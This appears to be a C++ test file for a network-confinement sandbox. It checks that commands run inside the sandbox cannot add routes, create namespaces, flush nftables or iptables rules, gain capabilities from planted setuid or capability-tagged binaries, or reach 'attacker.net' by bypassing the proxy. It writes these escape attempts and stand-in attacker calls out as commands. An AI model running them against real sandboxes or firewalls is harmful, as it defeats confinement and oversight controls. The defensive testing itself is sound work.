// The attack: the command turns against the enforcement itself: it adds interfaces and routes,
// makes namespaces of its own, becomes root in them and flushes rules, or simply ignores the proxy
// variables. What must stop it: no capability and no system call for it (helpers/confine), no
// enforcement that depends on variables, and, behind all that, a namespace without a wire.
#include "attack/attack.hpp"

namespace awf::attack {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

using RulesAttack = Attack;

INSTANTIATE_TEST_SUITE_P(Callers, RulesAttack, testing::Values(Caller::kRoot, Caller::kRootless),
                         caller_name);

TEST_P(RulesAttack, NET_22_no_interface_route_or_tunnel_can_be_added) {
  const auto result = run_shell(
      "export PATH=$PATH:/usr/sbin:/sbin;"
      "ip link add dummy0 type dummy; echo add=$?;"
      "ip route add 198.41.30.7 dev lo; echo route=$?;"
      "ip addr add 20.55.0.9/24 dev lo; echo addr=$?;"
      "ip tuntap add tun0 mode tun; echo tun=$?;"
      "ip link | grep -c '^[0-9]'");
  EXPECT_EQ(result.exit_code, 0) << result;
  for (const auto* line : {"add=2", "route=2", "addr=2"}) {
    EXPECT_THAT(result.output, HasSubstr(line));
  }
  EXPECT_THAT(result.output, Not(HasSubstr("tun=0")));
  EXPECT_THAT(result.output, testing::EndsWith("\n1\n"));
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(RulesAttack, NET_23_and_PROC_07_namespaces_of_its_own_are_refused) {
  const auto result = run_shell(
      "unshare -rn true; echo user=$?; unshare -n true; echo net=$?; unshare -m true; echo mnt=$?;"
      "nsenter --net=/proc/1/ns/net true; echo enter=$?; nsenter -t 1 -n true; echo pid1=$?");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("=0")));
}

TEST_P(RulesAttack, NET_38_the_rules_cannot_be_read_or_changed_from_inside) {
  const auto result = run_shell(
      "export PATH=$PATH:/usr/sbin:/sbin;"
      "id -u; nft flush ruleset; echo nft=$?; sysctl -w net.ipv4.ip_unprivileged_port_start=0;"
      "echo 0 > /proc/sys/net/ipv4/ip_forward; echo sysctl=$?;"
      "grep -E 'Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | grep -v 0000000000000000; "
      "curl -fsS -m 5 http://198.41.30.7/; echo curl=$?");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("nft=0")));
  EXPECT_THAT(result.output, Not(HasSubstr("sysctl=0")));
  EXPECT_THAT(result.output, Not(HasSubstr("Cap")));
  EXPECT_THAT(result.output, Not(HasSubstr("curl=0")));
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Layer: no_new_privs and an empty bounding set (helpers/confine); what a program file promises is
// void here. Should a capability be had all the same, there is nothing but lo to configure.
TEST_P(RulesAttack, NET_38_files_with_capabilities_or_the_set_user_id_bit_give_nothing) {
  const std::string place = std::string(test_world::kWorkspace) + "/";
  const auto planted = world.run_in_machine({"/usr/bin/python3", "-c", R"(
import os, shutil, struct, sys
for name in ('caps', 'suid'):
    shutil.copy(os.path.realpath('/usr/bin/python3'), sys.argv[1] + name)
os.chmod(sys.argv[1] + 'suid', 0o6755)
everything = struct.pack('<IIIII', 0x02000001, 0xffffffff, 0xffffffff, 0x1ff, 0x1ff)
os.setxattr(sys.argv[1] + 'caps', 'security.capability', everything)
)",
                                             place});
  ASSERT_EQ(planted.exit_code, 0) << planted;
  const auto result = run_python(std::string(kPrelude) + R"(
import subprocess
inner = """
import os, socket
for line in open('/proc/self/status'):
    if line.startswith('Cap') and int(line.split()[1], 16): print('GOT', line)
for name, what in (('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
                   ('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)),
                   ('mark', lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)),
                   ('user', lambda: os.getuid() != os.geteuid() and print('GOT a user')),
                   ('root', lambda: open('/proc/sys/net/ipv4/ip_forward', 'w').write('1'))):
    try:
        what()
        if name != 'user': print('GOT', name)
    except OSError:
        pass
print('ran')
"""
for name in ('./caps', './suid', '/usr/bin/python3'):
    try:
        r = subprocess.run([name, '-c', inner], capture_output=True, text=True)
        print(name, r.stdout, r.stderr)
    except OSError as e:
        print(name, errno.errorcode.get(e.errno))
for tool in ('nft flush ruleset', 'iptables -F', 'ip6tables -F', 'ip link set lo down', 'ip route flush table local',
             'tc qdisc add dev lo root tbf rate 1kbit burst 1kb latency 1ms', 'ethtool -K lo tso off',
             'sysctl -w net.ipv4.ip_forward=1', 'conntrack -F', 'bpftool prog'):
    r = subprocess.run(['/bin/sh', '-c', 'PATH=$PATH:/usr/sbin:/sbin ' + tool], capture_output=True, text=True)
    if r.returncode == 0 and 'ermission denied' not in r.stderr: print('GOT', tool, r.stdout, r.stderr)
try_tcp('198.41.30.7', 443)
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("/usr/bin/python3 ran"));
  EXPECT_THAT(result.output, Not(HasSubstr("GOT")));
  EXPECT_THAT(result.output, HasSubstr("tcp 198.41.30.7 443 ECONNREFUSED"));
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(RulesAttack, NET_29_without_the_proxy_variables_nothing_more_is_reachable) {
  const auto result = run_shell(
      "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy NO_PROXY no_proxy;"
      "curl -sS -m 10 https://example.org/; echo allowed=$?;"
      "curl -sS -m 5 https://attacker.net/; echo denied=$?;"
      "curl -sS -m 5 -k https://198.41.30.7/; echo literal=$?;"
      "HTTPS_PROXY=http://198.41.30.7:3128 curl -sS -m 5 https://attacker.net/; echo other=$?;"
      "git -c http.proxy= ls-remote https://attacker.net/x.git; echo git=$?");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("allowed=0"));
  for (const auto* line : {"denied=0", "literal=0", "other=0", "git=0"}) {
    EXPECT_THAT(result.output, Not(HasSubstr(line)));
  }
  const auto others = world.packets_to_others({"93.184.216.34", "2606:2800:220:1::1"});
  EXPECT_THAT(others, IsEmpty());
}

TEST_P(RulesAttack, NET_13_NET_14_a_socket_of_the_caller_does_not_reach_the_command) {
  RunOptions options;
  options.caller = GetParam();
  const auto result = world.run_in_machine(
      {"/bin/bash", "-c",
       "exec 7<>/dev/tcp/198.41.30.7/80; exec /opt/awf/bin/awf --allow-domains example.org -- "
       "'ls -l /proc/self/fd | grep -c socket; echo leaked > /proc/self/fd/7'"},
      options);
  EXPECT_NE(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("0\n"));
}

}  // namespace
}  // namespace awf::attack
